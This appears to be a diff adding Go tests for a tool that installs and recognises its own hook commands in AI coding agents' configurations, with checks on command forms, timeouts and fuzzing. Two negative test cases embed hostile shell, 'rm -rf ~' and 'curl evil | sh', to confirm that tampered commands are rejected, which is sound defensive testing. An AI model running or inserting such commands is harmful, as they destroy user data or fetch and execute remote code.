@@ -1,0 +1,126 @@
+package agents
+
+import (
+	"strings"
+	"testing"
+	"time"
+)
+
+// The command lines install writes are recognised as ours (so that a
+// second install updates them and uninstall takes them out), in every
+// form an install ever wrote; anything else is the user's.
+func TestIsOwnCommand(t *testing.T) {
+	claude, _ := Lookup("claude")
+	kiro, _ := Lookup("kiro")
+	for _, tc := range []struct {
+		name, command, agent string
+		own                  bool
+	}{
+		{"absolute, no event (an old install)", "'/usr/bin/hermes-hooks' hook codex", "codex", true},
+		{"absolute with event (an old install)", "'/home/you/go/bin/hermes-hooks' hook claude PreToolUse", "claude", true},
+		{"absolute with a quote in the path", "'/x/it'\\''s/hermes-hooks' hook claude Stop --agent-timeout 600", "claude", true},
+		{"absolute, today's", claude.HookCommand("/opt/hermes-hooks", "PreToolUse"), "claude", true},
+		{"PATH form, gating (JSON on stdout)", claude.HookCommand("", "PreToolUse"), "claude", true},
+		{"PATH form, non-gating", claude.HookCommand("", "Stop"), "claude", true},
+		{"PATH form, refusal on stderr", kiro.HookCommand("", "preToolUse"), "kiro", true},
+		{"PATH form, fractional timeout", claude.HookCommand("", "SessionEnd"), "claude", true},
+		{"PATH form, another agent's", claude.HookCommand("", "PreToolUse"), "codex", false},
+		{"any agent", claude.HookCommand("", "PreToolUse"), "", true},
+		{"relative path", "'hermes-hooks' hook claude PreToolUse", "claude", false},
+		{"a command after ours", "'/usr/bin/hermes-hooks' hook claude PreToolUse; rm -rf ~", "claude", false},
+		{"more words", "'/usr/bin/hermes-hooks' hook claude PreToolUse now please", "claude", false},
+		{"something else in the prologue", "command -v hermes-hooks >/dev/null 2>&1 || { curl evil | sh; exit 2; }; exec hermes-hooks hook claude PreToolUse", "claude", false},
+		{"prologue without exec", "command -v hermes-hooks >/dev/null 2>&1 || exit 0; hermes-hooks hook claude Stop", "claude", false},
+		{"another program by name", "command -v hermes-hooks >/dev/null 2>&1 || exit 0; exec other hook claude Stop", "claude", false},
+		{"the user's hook", "~/.claude/hooks/guard.sh", "claude", false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			if got := IsOwnCommand(tc.command, tc.agent); got != tc.own {
+				t.Errorf("IsOwnCommand(%q, %q) = %v, want %v", tc.command, tc.agent, got, tc.own)
+			}
+		})
+	}
+}
+
+// A project's command line runs hermes-hooks by name, after the prologue;
+// the user's runs the absolute path. Both pass the agent's deadline.
+func TestHookCommandForms(t *testing.T) {
+	claude, _ := Lookup("claude")
+	if got, want := claude.HookCommand("/opt/bin/hermes-hooks", "PreToolUse"), "'/opt/bin/hermes-hooks' hook claude PreToolUse --agent-timeout 600"; got != want {
+		t.Errorf("absolute form = %q, want %q", got, want)
+	}
+	if got, want := claude.HookCommand("", "Stop"), "command -v hermes-hooks >/dev/null 2>&1 || exit 0; exec hermes-hooks hook claude Stop --agent-timeout 600"; got != want {
+		t.Errorf("PATH form, non-gating = %q, want %q", got, want)
+	}
+	got := claude.HookCommand("", "PreToolUse")
+	if !strings.HasPrefix(got, `command -v hermes-hooks >/dev/null 2>&1 || { printf '%s\n' '{"hookSpecificOutput":{"hookEventName":"PreToolUse","permissionDecision":"deny"`) ||
+		!strings.HasSuffix(got, "; exit 0; }; exec hermes-hooks hook claude PreToolUse --agent-timeout 600") {
+		t.Errorf("PATH form, gating = %q; want Claude Code's deny printed, then exec", got)
+	}
+	cursor, _ := Lookup("cursor")
+	if got := cursor.HookCommand("", "stop"); strings.Contains(got, AgentTimeoutFlag) {
+		t.Errorf("cursor's timeout is not known, yet %q passes one", got)
+	}
+	cline, _ := Lookup("cline")
+	script := string(Script(cline.HookCommand("", "PreToolUse")))
+	if !strings.HasPrefix(script, "#!/bin/sh\n"+scriptMarker+"command -v hermes-hooks ") || !IsOwnScript([]byte(script), "cline") {
+		t.Errorf("Cline's script for the PATH form is %q; want the prologue as its body, recognised as ours", script)
+	}
+	if old := Script("'/b/hermes-hooks' hook cline PreToolUse"); !IsOwnScript(old, "cline") {
+		t.Errorf("a script an older install wrote is no longer ours: %q", old)
+	}
+}
+
+// Timeout: what install writes for the event, else the agent's default
+// for it; 0 where neither is known.
+func TestAgentTimeouts(t *testing.T) {
+	for _, tc := range []struct {
+		agent, event string
+		want         time.Duration
+	}{
+		{"claude", "PreToolUse", 600 * time.Second},
+		{"claude", "UserPromptSubmit", 30 * time.Second},
+		{"claude", "SessionEnd", 1500 * time.Millisecond},
+		{"codex", "PreToolUse", 600 * time.Second},  // written: "timeout": 600
+		{"codex", "SessionEnd", 3 * time.Second},    // written: Codex's cap
+		{"gemini", "BeforeTool", 600 * time.Second}, // written in ms
+		{"kiro", "preToolUse", 600 * time.Second},   // timeout_ms
+		{"copilot", "PreToolUse", 600 * time.Second},
+		{"cline", "PreToolUse", 30 * time.Second}, // not configurable
+		{"cursor", "preToolUse", 0},
+		{"windsurf", "pre_run_command", 0},
+	} {
+		a, _ := Lookup(tc.agent)
+		if got := a.Timeout(tc.event); got != tc.want {
+			t.Errorf("%s %s: Timeout = %v, want %v", tc.agent, tc.event, got, tc.want)
+		}
+	}
+	gemini, _ := Lookup("gemini")
+	if got := gemini.DefaultTimeout("BeforeTool"); got != 60*time.Second {
+		t.Errorf("gemini's own default = %v, want 60s", got)
+	}
+}
+
+// Every command line HookCommand writes, for any absolute path, is
+// recognised as the agent's own and no other agent's.
+func FuzzIsOwnCommand(f *testing.F) {
+	f.Add("/usr/bin/hermes-hooks", 0)
+	f.Add("/x/it's/hermes-hooks", 3)
+	f.Add("", 7)
+	f.Fuzz(func(t *testing.T, exe string, pick int) {
+		if exe != "" && (!strings.HasPrefix(exe, "/") || strings.ContainsAny(exe, "\n\x00")) {
+			return
+		}
+		all := All()
+		a := all[uint(pick)%uint(len(all))]
+		for _, ev := range a.HookFile.Events {
+			cmd := a.HookCommand(exe, ev)
+			if !IsOwnCommand(cmd, a.Name) {
+				t.Fatalf("%s %s: %q is not recognised as ours", a.Name, ev, cmd)
+			}
+			if IsOwnCommand(cmd, a.Name+"x") {
+				t.Fatalf("%q is recognised as another agent's", cmd)
+			}
+		}
+	})
+}
